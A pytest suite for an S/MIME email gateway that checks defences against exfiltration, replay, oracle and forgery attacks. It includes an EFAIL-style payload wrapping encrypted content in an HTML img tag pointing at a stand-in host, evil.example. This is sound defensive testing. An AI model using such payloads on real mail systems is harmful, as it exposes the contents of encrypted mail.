"""Attacks over SMTP, through three nodes: what leaves the gateway, and what the attacker reads in the replies."""
import base64
import email
import email.policy
import smtplib
import time

import pytest

from partner import crlf

SECRET = b"the launch code is 0000"
SUBJECT = "Merger with Globex"
ALICE, BOB, MALLORY = "alice@ours.example", "bob@partner.example", "mallory@evil.example"
QUOTES = "550 5.7.1 looks like spam: the launch code is 0000"


def send(cluster, sender, recipients, content, node=1):
    with smtplib.SMTP("127.0.0.1", cluster.smtp_port(node), timeout=60) as session:
        return session.sendmail(sender, recipients, content)


def arrives(cluster, sender, recipients, content, count=1, node=1):
    before = len(cluster.sink.messages())
    send(cluster, sender, recipients, content, node)
    return [came for _, came in cluster.sink.wait(before + count)[before:]]


def header(content):
    return email.message_from_bytes(content, policy=email.policy.default)


def head(sender=BOB, subject="Re: it", more=""):
    return f"From: {sender}\r\nTo: {ALICE}\r\nSubject: {subject}\r\nMessage-ID: <{abs(hash((sender, subject, more)))}@x>\r\n{more}".encode()


def plain(text=SECRET):
    return b"Content-Type: text/plain\r\n\r\n" + text + b"\r\n"


@pytest.fixture(scope="module")
def ready(cluster, partner):
    cluster.sink.data_reply = lambda sink, recipients: QUOTES if "bounces@ours.example" in recipients else None
    for name, address in (("bob", BOB), ("alice", ALICE), ("dora", "dora@ours.example"), ("bounces", "bounces@ours.example")):
        partner.issue(name, address)
    cluster.ctl("ca", "trust", partner.path("ca.pem"))
    cluster.ctl("cert", "import", partner.path("bob.pem"))
    for name in ("alice", "dora", "bounces"):
        cluster.ctl("key", "import", partner.path(f"{name}.p12"), "--password-file", partner.path("secret"))
    cluster.ctl("domain", "add", "ours.example", "--locality", "internal")
    cluster.ctl("domain", "add", "partner.example", "--locality", "external")
    return cluster


def test_a_protected_subject_travels_hidden_and_comes_back(ready, partner):
    """Out with hide-subject; the same message sent on to one of ours is read as it was written."""
    ready.ctl("settings", "set", "protect.headers", "hide-subject", "--domain", "partner.example")
    letter = f"From: {ALICE}\r\nTo: {BOB}\r\nSubject: {SUBJECT}\r\n\r\nIt is on.\r\n".encode()
    [out] = arrives(ready, ALICE, [BOB], letter)
    assert header(out)["Subject"] == "[...]" and SUBJECT.encode() not in out
    inner = partner.decrypt("bob", out)
    assert b"HP-Outer: Subject: [...]" in inner and f"Subject: {SUBJECT}".encode() in inner
    assert b'hp="cipher"' in inner and b'hp-legacy-display="1"' in inner
    ready.ctl("settings", "unset", "protect.headers", "--domain", "partner.example")

    payload = (f"From: {BOB}\r\nTo: {ALICE}\r\nSubject: {SUBJECT}\r\n".encode() +
               b'Content-Type: text/plain; hp="cipher"; hp-legacy-display="1"\r\n\r\n' + f"Subject: {SUBJECT}\r\n\r\nIt is on.\r\n".encode())
    content = head(subject="[...]") + crlf(partner.encrypt(["alice"], partner.sign("bob", payload)))
    [came] = arrives(ready, BOB, [ALICE], content, node=2)
    assert header(came)["Subject"] == SUBJECT
    assert header(came)["X-Sealpost-Headers"] == "signed-and-encrypted"


def test_nothing_is_opened_between_parts_of_the_attacker(ready, partner):
    sealed = crlf(partner.encrypt(["alice"], plain()))
    frames = {
        "mixed": b'Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/?\r\n'
                 b'--x\r\n%s\r\n--x\r\nContent-Type: text/html\r\n\r\n">\r\n--x--\r\n',
        "alternative": b"Content-Type: multipart/alternative; boundary=x\r\n\r\n--x\r\n\r\nhi\r\n--x\r\n%s\r\n--x--\r\n",
        "related": b'Content-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<iframe src="cid:1">\r\n--x\r\n%s\r\n--x--\r\n',
        "attached": b"Content-Type: message/rfc822\r\n\r\n%s",
        "reply": b"Content-Type: multipart/mixed; boundary=x\r\nIn-Reply-To: <1@ours.example>\r\n\r\n--x\r\n\r\n> you wrote:\r\n--x\r\n%s\r\n--x--\r\n",
        "external": b"Content-Type: message/external-body; access-type=URL; URL=\"http://evil.example/\"\r\n\r\n%s",
    }
    for name, frame in frames.items():
        [came] = arrives(ready, MALLORY, [ALICE], head(MALLORY, name) + frame.replace(b"%s", sealed))
        assert SECRET not in came, name
        assert header(came)["X-Sealpost-Encryption"] == "none", name


def test_a_captured_message_under_another_name(ready, partner):
    sealed = crlf(partner.encrypt(["alice"], plain()))
    [came] = arrives(ready, MALLORY, [ALICE], head(MALLORY, "replayed") + sealed)
    assert header(came)["X-Sealpost-Signature"] == "none" and "authenticated=no" in header(came)["X-Sealpost-Encryption"]
    [came] = arrives(ready, MALLORY, ["dora@ours.example"], head(MALLORY, "to another") + sealed)
    assert SECRET not in came and header(came)["X-Sealpost-Encryption"].startswith("failed")
    signed = crlf(partner.encrypt(["alice"], partner.sign("bob", plain())))
    [came] = arrives(ready, MALLORY, [ALICE], head(MALLORY, "signed by bob") + signed)
    assert header(came)["X-Sealpost-Signature"].startswith(f"mismatch; signer={BOB}")


def test_a_notification_tells_nothing_of_what_was_decrypted(ready, partner):
    """The next server refuses and quotes the text: the sender, who may be whoever captured the message, learns the code."""
    payload = f"From: {BOB}\r\nSubject: {SUBJECT}\r\nComments: {SECRET.decode()}\r\n".encode() + b'Content-Type: text/plain; hp="cipher"\r\n\r\n' + SECRET + b"\r\n"
    content = head(MALLORY, "[...]") + crlf(partner.encrypt(["bounces"], payload))
    [notification] = arrives(ready, MALLORY, ["bounces@ours.example"], content)
    assert header(notification).get_content_type() == "multipart/report"
    assert b"bounces@ours.example" in notification
    for leak in (SECRET, SUBJECT.encode(), b"Globex", b"spam", b"X-Sealpost"):
        assert leak not in notification, leak


def reply_to(cluster, content):
    try:
        send(cluster, MALLORY, [ALICE], content)
    except smtplib.SMTPDataError as refused:
        return refused.smtp_code, refused.smtp_error
    return 250, b""


def damaged(partner, how):
    entity = partner.encrypt(["alice"] if how != "key" else ["bob"], plain(), cipher="-aes-256-gcm" if how == "tag" else "-aes256")
    parsed = email.message_from_bytes(entity)
    der = bytearray(base64.b64decode(parsed.get_payload()))
    if how == "padding":
        der[-18] ^= 0x80
    elif how == "transport":
        at = bytes(der).index(bytes.fromhex("2a864886f70d010101"))
        der[at + 60] ^= 1
    elif how == "tag":
        der[-2] ^= 1
    elif how == "cut":
        del der[-16:]
    return b"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(bytes(der)).replace(b"\n", b"\r\n")


def test_failures_look_alike_on_the_wire(ready, partner):
    """Replies and delivered marks are the same whatever was wrong (RFC 3218), with deliver and with refuse."""
    marks, replies = set(), set()
    for how in ("padding", "transport", "tag", "key"):
        content = head(MALLORY, how) + damaged(partner, how)
        [came] = arrives(ready, MALLORY, [ALICE], content)
        marks.add((header(came)["X-Sealpost-Signature"], header(came)["X-Sealpost-Encryption"]))
    assert marks == {("none", "failed; protocol=smime")}
    ready.ctl("settings", "set", "decrypt.on_failure", "refuse", "--domain", "ours.example")
    for how in ("padding", "transport", "tag", "key"):
        replies.add(reply_to(ready, head(MALLORY, how) + damaged(partner, how)))
    ready.ctl("settings", "unset", "decrypt.on_failure", "--domain", "ours.example")
    assert len(replies) == 1
    code, text = replies.pop()
    assert code == 550 and b"could not be decrypted" in text and ALICE.encode() in text


def test_an_invalid_signature_is_put_aside_or_refused(ready, partner):
    changed = crlf(partner.sign("bob", plain(b"pay 100 to bob"))).replace(b"pay 100", b"pay 900")
    ready.ctl("settings", "set", "verify.on_invalid", "quarantine", "--domain", "ours.example")
    before = len(ready.sink.messages())
    send(ready, BOB, [ALICE], head(subject="put aside") + changed)
    end, held = time.monotonic() + 20, []
    while not held and time.monotonic() < end:
        held = [entry for entry in ready.ctl_json("queue", "list")["items"] if entry["state"] == "quarantined"]
        time.sleep(0.1)
    assert held, "it is in the queue, put aside"
    assert len(ready.sink.messages()) == before
    ready.ctl("settings", "set", "verify.on_invalid", "refuse", "--domain", "ours.example")
    with pytest.raises(smtplib.SMTPDataError) as refused:
        send(ready, BOB, [ALICE], head(subject="refused") + changed)
    assert refused.value.smtp_code == 550 and b"invalid" in refused.value.smtp_error
    ready.ctl("settings", "unset", "verify.on_invalid", "--domain", "ours.example")
    ready.ctl("queue", "release", held[0]["id"])
    [(_, came)] = ready.sink.wait(before + 1)[before:]
    assert header(came)["X-Sealpost-Signature"].startswith("invalid")


def test_a_forged_tag_is_removed(ready, partner):
    ready.ctl("settings", "set", "incoming.subject_tags", "yes", "--user", ALICE)
    [came] = arrives(ready, MALLORY, [ALICE], head(MALLORY, "[signed by ceo@ours.example] hello") + plain(b"hi"))
    assert header(came)["Subject"] == "hello"
    [came] = arrives(ready, BOB, [ALICE], head(subject="hello") + crlf(partner.encrypt(["alice"], partner.sign("bob", plain()))))
    assert header(came)["Subject"] == f"[decrypted] [signed by {BOB}] hello"
    ready.ctl("settings", "unset", "incoming.subject_tags", "--user", ALICE)
